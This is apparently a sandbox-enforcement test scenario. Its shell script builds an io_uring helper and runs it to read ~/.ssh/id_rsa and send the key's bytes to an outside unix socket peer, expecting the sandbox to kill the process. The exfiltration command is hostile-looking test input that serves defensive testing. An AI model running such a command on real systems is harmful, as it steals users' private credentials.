# expect: forbidden_syscall
# action: kill
# ways: bwrap bare
# outside: unix
# about: io_uring exfil to an outside unix peer: killed at io_uring_setup by default
# With io_uring allowed (forbidden_syscall's `calls` without io_uring_setup), the send after
# the read is credential_read's kill: tests/test_exfil_live.py runs that case live.
# not-in: srt: its seccomp filter refuses AF_UNIX sockets and io_uring_setup
set -e
cc -O2 -o "$WS/uring_ops" "$SCENARIO_LIB/../../uring_ops.c"
exec "$WS/uring_ops" "unix:$AW_OUTSIDE_UNIX" "open:$HOME/.ssh/id_rsa" "send:the key's bytes"
